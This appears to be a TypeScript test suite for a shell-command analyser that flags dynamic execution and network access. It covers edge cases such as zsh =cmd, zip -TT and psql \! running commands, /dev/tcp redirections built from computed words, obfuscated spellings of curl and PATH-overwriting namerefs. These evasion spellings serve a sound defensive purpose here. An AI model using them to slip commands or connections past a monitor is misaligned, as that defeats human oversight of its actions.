    afterAll(() => rmSync(dir, { recursive: true, force: true }))

    it.each([
      // zsh 5.9: `=touch` is /usr/bin/touch
      ['zsh =cmd', (m: string) => `zsh -c '=touch ${m}'`],
      // zip 3.0: the test command gets the archive's temporary name appended
      ['zip -TT', (m: string) => `zip -q a.zip f -T -TT 'touch ${m}'`],
      // psql 15: \! runs a shell command (against the local server, which the suite needs anyway)
      ['psql \\!', (m: string) => `psql -X -q -h 127.0.0.1 -U postgres -d postgres -c '\\! touch ${m}'`],
    ] as const)('%s: dynamic, and the command runs', (_title, line) => {
      const marker = join(dir, `ran-${Math.random().toString(36).slice(2)}`)
      const command = line(marker)
      expect(facts(command).dynamic).toBe(true)
      try {
        execFileSync('bash', ['-c', command], { cwd: dir, stdio: 'ignore', timeout: 10_000 })
      } catch {
        // zip reports the test as failed (touch is not unzip): the marker says whether it ran
      }
      expect(existsSync(marker)).toBe(true)
    })
  })
})

describe('analyzeCommand at its edges: the size limit, the parser not loaded, a nameref to an element', () => {
  const LIMIT = 64 * 1024
  const refusal = `the command line is longer than ${LIMIT} bytes, more than the gateway analyses`

  it('a line of exactly 64 KiB is analysed; one byte more is refused, counted in UTF-8 bytes, not characters', () => {
    expect(facts(`ls ${'a'.repeat(LIMIT - 3)}`)).toMatchObject({ programs: ['ls'] })
    expect(analyzeCommand(`ls ${'a'.repeat(LIMIT - 2)}`)).toEqual({ ok: false, error: refusal })
    // 2 + 32,767 characters, 65,536 UTF-8 bytes: analysed; one more é is 65,538 bytes in 32,770 characters
    expect(facts(`ls${'é'.repeat(LIMIT / 2 - 1)}`)).toMatchObject({ programs: [`ls${'é'.repeat(LIMIT / 2 - 1)}`] })
    expect(analyzeCommand(`ls${'é'.repeat(LIMIT / 2)}`)).toEqual({ ok: false, error: refusal })
  })

  // bash 5.2: `declare -n r='PATH[1 - 1]'; r=/tmp/x` sets PATH (element 0 of a scalar is the scalar)
  eachLine([
    ["declare -n r='PATH[1 - 1]'; r=/tmp; ls", { programs: ['declare', 'ls'], dynamic: true }],
    ["declare -n r='PATH[0]'; r=/tmp; ls", { programs: ['declare', 'ls'], dynamic: true }],
    ["declare -n r='x[1 - 1]'; r=/tmp; ls", { programs: ['declare', 'ls'], dynamic: false }],
  ])

  describe('/dev/tcp and /dev/udp: computed words whose literal start may become one', () => {
    eachLine([
      // a word that may name /dev/tcp/… is reported wherever it stands (a variable or eval can take
      // it to a redirection); two characters are the least start that counts, `/` alone does not
      ['cat "/d$x"', { network: true }],
      ['cat "/dev/t$x"', { network: true }],
      ['cat "/$x"', { network: false }],
      // a redirection's start that runs past /dev/tcp/ (the text as written, quotes and all, does not hold it)
      ["ls > \"/dev/\"'tcp/h/'$x", { network: true }],
      // HOME is what ~ expands to: /dev/tcp makes `< ~/h/80` a connection (bash 5.2 connects)
      ['HOME=/dev/tcp; cat < ~/h/80', { network: true }],
      ['HOME=/tmp; cat < ~/h/80', { network: false }],
      // `//` and `/./` are collapsed before the names are compared, as the kernel does for
      // /dev/stdin (same function); bash 5.2 connects only for the exact spelling, so this errs
      // towards reporting network. (A third `/./` pass after the `//` one never matched anything
      // and was removed: an exhaustive check over `/`, `.` and one other character up to 12 long.)
      ['cat < /dev/././tcp/h/80', { network: true }],
      ['cat < /dev//./tcp/h/80', { network: true }],
    ])
  })

  it('backticks in a heredoc: parsed substitutions are skipped, and an open backtick ends at the first backtick, as in bash', () => {
    // the second parsed range holds a quoted backtick: it is not text (bash prints a backtick)
    expect(facts('cat <<EOF\n$x $(echo \'`\')\nEOF')).toMatchObject({ programs: ['cat', 'echo'], dynamic: false })
    // an old-style substitution ends at the first unescaped backtick, even inside $(…) and quotes:
    // bash 5.2 fails this one ("unexpected EOF while looking for matching `''"), and so does the gateway
    expect(analyzeCommand('cat <<EOF\n`echo $(echo \'`\')`\nEOF')).toEqual({ ok: false, error: 'the command line could not be parsed' })
    expect(facts('cat <<EOF\n`echo $x`\nEOF')).toMatchObject({ programs: ['cat', 'echo'], dynamic: false })
  })

  describe('escapes inside double quotes are quoted characters (bash 5.2 prints each argv here)', () => {
    eachLine([
      // an escaped `$` is quoted, so the brace after it is expanded: bash prints `$a $b`
      ['echo "\\$"{a,b}', { argv: ['echo', '$a', '$b'] }],
      ['echo "\\\\"{a,b}', { argv: ['echo', '\\a', '\\b'] }],
    ])
  })

  describe("$'…' escapes: digit counts, and what \\c takes (bash 5.2 prints each argv here)", () => {
    eachLine([
      // \c at the end stays as written; \c\\ is control-backslash with both backslashes taken (it was
      // read as 0x1c and a backslash, which then escaped the next character)
      ["echo $'\\c'", { argv: ['echo', '\\c'] }],
      ["echo $'\\c\\\\cx'", { argv: ['echo', '\x1ccx'] }],
      // bash's reader puts its quoting byte 0x01 before a raw 0x01 or 0x7f, and \c takes that byte
      ["echo $'\\c\x7fx'", { argv: ['echo', '\x01\x7fx'] }],
      ["echo $'\\c\x01x'", { argv: ['echo', '\x01\x01x'] }],
      // \U takes eight hex digits, not four: `\U0000` would be a NUL that ends the string
      ["$'\\U00000063'url x", { programs: ['curl'], argv: ['curl', 'x'] }],
      // \x takes two hex digits at most: the rest is text
      ["echo $'\\x41BC'", { argv: ['echo', 'ABC'] }],
      // \u above 0x7f is not ASCII (bash writes ţ in UTF-8): computed, never its low byte (0x63, `c`)
      ["$'\\u0163'url x", { programs: [], dynamic: true }],
    ])
  })

  describe('brace expansion at its edges (bash 5.2 prints each argv here)', () => {
    eachLine([
      // the search starts at the first `{`: a `,` and `}` before it are text
      ['echo a,b}{c,d}', { argv: ['echo', 'a,b}c', 'a,b}d'] }],
      // a quoted `~` stays quoted in every result, whatever the alternative's quoting
      ["echo '~'{'a',b}", { argv: ['echo', '~a', '~b'] }],
      // a sequence of 10^11 words is cut at the word limit (computed), not built
      ['echo {1..100000000000}', { programs: ['echo'], argv: undefined }],
    ])
  })
})

describe('handler edges from the mutation run of 2026-12-04 (each case fails against the mutant it was written for)', () => {
  eachLine([
    // a lone `-` is an operand for nice (GNU getopt): nice runs a program named `-`, not curl
    ['nice - curl x', { programs: ['nice', '-'], dynamic: false, dynamicReasons: [] }],
    // an option nohup does not know, even one that is a prefix of nothing it has, is reported
    ['nohup --St curl', { programs: ['nohup', 'curl'], dynamic: true, dynamicReasons: ['unknown option --St'] }],
    // a computed word among su's options: dynamic, with no made-up reason
    ['su "$x"', { programs: ['su'], dynamic: true, dynamicReasons: [] }],
    // coproc skips only a word that opens a group or subshell: `x(` is a program name
    ["coproc 'x(' curl", { programs: ['coproc', 'x('], dynamic: false, background: true }],
    // an operand holding I is a file name, not tar's -I
    ['tar -cf a.tar xIcurl', { programs: ['tar'], dynamic: false }],
    // git bisect run appends nothing to its program
    ['git bisect run env X=1', { programs: ['git', 'env'], dynamic: false }],
    // after `--`, git config's operands are the name and value, even one that starts with `-`
    ['git config -- core.pager -x', { programs: ['git', '-x'], dynamic: false }],
    // a setting that starts with `=` has an empty key, named as such
    ['git -c =x status', { programs: ['git'], dynamic: true, dynamicReasons: ['git -c : git may run code this setting names'] }],
    // script given a computed word where it reads options; sg given no group at all
    ['script "$x"', { programs: ['script'], dynamic: true }],
    ['sg', { programs: ['sg', 'sh'], dynamic: true }],
    // xargs: only -i written first in its word is the replace option; --replace=R names R; no -I, no placeholder
    ['xargs -ax-iy x-iy', { programs: ['xargs', 'x-iy'], dynamic: false }],
    ['xargs --replace=R R', { programs: ['xargs'], dynamic: true }],
    ['xargs undefined', { programs: ['xargs', 'undefined'], dynamic: false }],
    // env: a computed NAME=value word after a literal one is not a literal assignment (the first
    // word after the options is checked by the option reader)
    ['env A=1 "$x=1" curl', { programs: ['env'], dynamic: true }],
    // a lone `-` is ssh's destination: the remote command is `h curl x`
    ['ssh - h curl x', { programs: ['ssh', 'h'], dynamic: false }],
  ])
})
